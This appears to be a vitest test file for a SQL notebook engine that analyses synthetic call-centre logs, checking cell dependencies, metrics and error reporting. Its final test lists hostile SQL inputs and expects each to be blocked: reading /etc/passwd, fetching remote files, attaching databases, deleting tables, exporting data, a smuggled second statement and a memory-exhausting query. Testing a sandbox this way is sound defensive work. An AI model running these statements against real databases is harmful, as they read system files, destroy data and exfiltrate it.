import { afterAll, beforeAll, expect, it } from "vitest";
import { openEngine, openImporter, openSandbox, type Engine, type Sandbox } from "../../src/engine";
import { computeMetrics, coverage, defaultParams, factViews, metricIds, type Scope } from "../../src/metrics";
import {
  createRunner,
  defaultView,
  readNotebook,
  type CellStatus,
  type Runner,
  type RunnerInput,
  type SqlOutput,
} from "../../src/notebook";
import { system } from "../engine/import-files";

const results = ["answered", "answered", "answered", "abandoned", "missed", "voicemail"];
const queues = ["support", "billing", "الدعم"];

/** 600 calls of four weeks in Dialbook's own layout. */
function log(): File {
  const lines = Array.from({ length: 600 }, (_, i) => {
    const at = new Date(Date.UTC(2024, 0, 1, 8) + i * 67 * 60_000)
      .toISOString()
      .slice(0, 19)
      .replace("T", " ");
    const direction = i % 4 === 0 ? "outbound" : "inbound";
    const result = direction === "outbound" ? (i % 3 === 0 ? "no_answer" : "answered") : results[i % 6];
    const coded =
      direction === "outbound" && result === "answered" ? ["interested", "appointment_scheduled"][i % 2] : "";
    const answered = result === "answered";
    return [
      `c${i}`,
      at,
      direction,
      `+4930${1_000_000 + (i % 90)}`,
      result,
      coded ?? "",
      queues[i % 3],
      answered ? `agent ${i % 5}` : "",
      (i * 7) % 61,
      answered ? 60 + (i % 240) : "",
      answered ? (i % 3) * 10 : "",
    ].join(",");
  });
  const head =
    "call_id,started_at,direction,contact_key,result,disposition,queue,agent_id,wait_s,talk_s,hold_s";
  return new File([`${head}\n${lines.join("\n")}\n`], "log.csv", { type: "text/csv", lastModified: 1 });
}

let engine: Engine;
let tables: Sandbox;
let runner: Runner;
let input: RunnerInput;
let scope: Scope;
const ran: string[] = [];

beforeAll(async () => {
  const store = `sql-${crypto.randomUUID()}`;
  const importer = openImporter({ store });
  const file = log();
  const [inspection] = await importer.inspect([file]);
  if (!inspection) throw new Error("no inspection");
  const mapping = { ...inspection.mapping, zone: "UTC", clock: "utc" as const };
  const plan = {
    importId: crypto.randomUUID(),
    systemId: system.id,
    files: [{ file, dialect: inspection.dialect, mapping }],
  };
  await importer.run(plan, system, {
    onProgress: () => undefined,
    signal: new AbortController().signal,
    title: "log",
  });
  importer.close();
  engine = openEngine({ role: "core", views: factViews, store });
  tables = openSandbox({ views: factViews, store });
  const covered = await coverage(engine);
  if (!covered) throw new Error("nothing imported");
  const document = readNotebook("");
  input = {
    document,
    view: defaultView(document),
    params: defaultParams,
    settings: { weekStart: 1 },
    covered: { from: covered.from, to: covered.to } as RunnerInput["covered"],
    dataVersion: engine.dataVersion,
    visible: "all",
    ready: true,
  };
  scope = {
    period: { from: "2024-01-08T00:00:00", to: "2024-01-15T00:00:00" },
    compare: null,
    filters: {},
    params: defaultParams,
  };
  runner = createRunner({
    sql: engine,
    tables: {
      ...tables,
      make(recipe, signal) {
        ran.push(recipe.steps.at(-1)?.owner ?? "");
        return tables.make(recipe, signal);
      },
    },
    buildId: "test",
    cache: null,
    onChange: () => undefined,
  });
});
afterAll(() => {
  runner.close();
  engine.close();
  tables.close();
});

const preset = { preset: "custom", from: "2024-01-08", to: "2024-01-14" } as const;

/** Shows a notebook over the second week and waits until all of it has run. */
async function show(markdown: string, change: Partial<RunnerInput> = {}): Promise<void> {
  const document = readNotebook(markdown);
  const view = { ...defaultView(document), period: preset };
  runner.set({ ...input, document, view, ...change });
  await runner.idle();
}

const fence = (name: string, sql: string): string =>
  `\`\`\`sql #${name.replaceAll("_", "-")} ${name}\n${sql}\n\`\`\`\n\n`;
const status = (id: string): CellStatus => runner.status(id);
function output(id: string): SqlOutput {
  const { output: found, error } = status(id);
  if (found?.kind !== "sql")
    throw new Error(
      `${id}: ${error?.code ?? "nothing"} ${JSON.stringify(error?.params)} ${error?.detail ?? ""}`,
    );
  return found;
}

/** The sixteen, as the core engine counts them. */
const sixteen = async (): Promise<string> =>
  JSON.stringify((await computeMetrics(engine, metricIds, scope)).map(({ value }) => value));

it("cells read each other, an input, the view and formulas, and equal the metric layer", async () => {
  const markdown =
    "```input #least least\ninput: number\ndefault: 10\n```\n\n" +
    fence("waits", "SELECT queue, wait_s FROM period_calls\nWHERE offered AND wait_s >= $least;") +
    fence("by_queue", "FROM Waits SELECT queue, count(*) AS n GROUP BY queue ORDER BY queue") +
    fence(
      "levels",
      "SELECT queue, metric('service-level') AS level, metric_numerator('service-level') AS k, metric_denominator('service-level') AS n\nFROM period_calls GROUP BY queue ORDER BY queue",
    ) +
    fence(
      "fcr",
      "SELECT metric('first-call-resolution') AS fcr, metric('average-handle-time') AS aht, metric('conversion-rate') AS cr FROM period_calls",
    ) +
    fence("ever", "SELECT count(*) AS n, $target_s AS target FROM calls");
  await show(markdown);
  const [count] =
    (
      await engine.query(
        "SELECT count(*) AS n FROM offered_inbound WHERE wait_s >= 10 AND started_local >= TIMESTAMP '2024-01-08' AND started_local < TIMESTAMP '2024-01-15'",
      )
    ).columns[0] ?? [];
  expect(output("waits").rows).toBe(count);
  expect(output("by-queue").first.reduce((sum, [, n]) => sum + Number(n), 0)).toBe(count);
  for (const [queue, level, k, n] of output("levels").first) {
    const [wanted] = await computeMetrics(engine, ["service-level"], {
      ...scope,
      filters: { queue: [String(queue)] },
    });
    expect([k, n]).toEqual([wanted?.value.numerator, wanted?.value.denominator]);
    expect(level).toBeCloseTo(wanted?.value.value ?? NaN, 12);
  }
  expect(output("levels").formulas[0]).toEqual({ metric: "service-level", variant: "sl3" });
  const wanted = await computeMetrics(
    engine,
    ["first-call-resolution", "average-handle-time", "conversion-rate"],
    scope,
  );
  output("fcr").first[0]?.forEach((value, i) => expect(value).toBeCloseTo(wanted[i]?.value.value ?? NaN, 9));
  expect(output("ever").first).toEqual([[600, 20]]);

  // A changed input runs what reads it, however far, and nothing else; each once.
  ran.length = 0;
  const document = readNotebook(markdown);
  const view = { ...defaultView(document), period: preset, values: { least: 30 } };
  runner.set({ view });
  await runner.idle();
  expect([...ran].sort()).toEqual(["by-queue", "waits"]);
  ran.length = 0;
  runner.set({ view: { ...view, period: { ...preset, to: "2024-01-10" } } });
  await runner.idle();
  expect([...ran].sort()).toEqual(["by-queue", "fcr", "levels", "waits"]);

  // In the manual mode nothing runs by itself; a cell that is asked for runs with what it reads.
  ran.length = 0;
  runner.set({ view, manual: true });
  await runner.idle();
  expect(ran).toEqual([]);
  expect(status("by-queue").state).toBe("stale");
  runner.run(["by-queue"]);
  await runner.idle();
  expect([...ran].sort()).toEqual(["by-queue", "waits"]);
  expect([status("by-queue").state, status("levels").state]).toEqual(["current", "stale"]);
  runner.set({ manual: false });
});

it("what is wrong is said in plain words, at its place in what was typed", async () => {
  const wrong: Readonly<Record<string, readonly [sql: string, code: string, at: string]>> = {
    a: ["SELECT metric('service-level') AS s, qeue FROM calls", "sql_unknown_column", "qeue"],
    b: ["SELECT 'الدعم', $target_s, x.n FROM wait_list AS x", "sql_unknown_table", "wait_list"],
    c: ["SELECT $targt_s FROM calls", "sql_parameter", "$targt_s"],
    d: [
      "SELECT agent_id, metric('service-level') FROM calls GROUP BY agent_id",
      "sql_metric_dimension",
      "agent_id",
    ],
    e: ["SELECT metric('service-level') FROM leads", "sql_metric_fact", "leads"],
    f: ["SELECT metric('service-level') FROM (SELECT queue FROM calls)", "sql_metric_rows", "metric"],
    g: ["SELECT metric('sl') FROM calls", "sql_metric_unknown", "'sl'"],
    h: ["SELECT queue, count(*) FROM calls", "sql_group_by", "queue"],
    i: ["  DROP VIEW calls", "sql_only_select", "DROP"],
    j: ["SELECT count( FROM calls WHERE (", "sql_syntax", "FROM"],
    k: ["SELECT (1", "sql_unfinished", ""],
    l: ["SELECT 1; SELECT 2", "sql_several", ";"],
    m: ["PIVOT calls ON queue USING count(*)", "sql_pivot", "PIVOT"],
    n: ["SELECT queue::INTEGER FROM calls", "sql_conversion", "::"],
  };
  await show(
    Object.entries(wrong)
      .map(([id, [sql]]) => fence(`w${id}`, sql))
      .join(""),
  );
  for (const [id, [sql, code, at]] of Object.entries(wrong)) {
    const { error } = status(`w${id}`);
    expect(
      [error?.code, sql.slice(Number(error?.params.position)).slice(0, at.length)],
      `${sql} ${error?.detail ?? ""}`,
    ).toEqual([code, at]);
  }
  expect(status("wa").error?.params.near).toBe("queue");
  expect(status("wc").error?.params.near).toBe("target_s");
});

it("a hostile notebook changes nothing", async () => {
  const before = await sixteen();
  performance.clearResourceTimings();
  const hostile = [
    "FROM read_csv('/etc/passwd')",
    "FROM read_text('local/s1.duckdb')",
    "FROM glob('*')",
    "FROM 'local/s1.duckdb'",
    "FROM read_csv('https://example.org/' || getvariable('target_s'))",
    "FROM read_parquet('https://example.org/x.parquet')",
    "ATTACH 'local/s1.duckdb' AS mine",
    "ATTACH ':memory:' AS mine",
    "DETACH s1",
    "INSTALL httpfs",
    "LOAD icu",
    "SET enable_external_access = true",
    "SET lock_configuration = false",
    "RESET memory_limit",
    "PRAGMA disable_optimizer",
    "CREATE OR REPLACE VIEW calls AS SELECT 1",
    "DROP VIEW v1.calls CASCADE",
    "CREATE OR REPLACE MACRO is_coded(a, b) AS true",
    "CREATE TEMP MACRO count_if(a) AS 0",
    "SET VARIABLE target_s = 0",
    "RESET VARIABLE target_s",
    "UPDATE s1.calls SET wait_s = 0",
    "DELETE FROM s1.calls",
    "COPY (FROM calls) TO 'local/out.csv'",
    "EXPORT DATABASE 'local/out'",
    "SELECT 1) AS q; SET VARIABLE target_s = 0; SELECT * FROM (SELECT 1",
    "FROM query('DROP VIEW calls')",
    "CALL pragma_version()",
    "CHECKPOINT",
    "BEGIN",
    "EXPLAIN ANALYZE DELETE FROM s1.calls",
    "SELECT * FROM (DELETE FROM s1.calls RETURNING *)",
    "WITH gone AS (DELETE FROM s1.calls RETURNING *) FROM gone",
    "SELECT i, repeat('x', 300) || i AS t FROM range(40_000_000) r(i) ORDER BY hash(t)",
  ];
  await show(hostile.map((sql, i) => fence(`h${i}`, sql)).join(""));
  for (const [i, sql] of hostile.entries()) expect([sql, status(`h${i}`).state]).toEqual([sql, "error"]);
  expect(status(`h${hostile.length - 1}`).error?.code).toBe("query_memory");
  expect(
    performance.getEntriesByType("resource").filter(({ name }) => !name.startsWith(location.origin)),
  ).toEqual([]);
  // Names of facts and variables cannot be taken, and what is left shows the same calls.
  await show(
    fence("calls", "SELECT 1 AS x") +
      fence("target_s", "SELECT 1 AS x") +
      fence("n", "SELECT count(*) AS n, $target_s AS t FROM calls"),
  );
  expect([status("calls").error?.code, status("target-s").error?.code]).toEqual([
    "cell_reserved",
    "cell_reserved",
  ]);
  expect(output("n").first).toEqual([[600, 20]]);
  expect(await sixteen()).toBe(before);
});
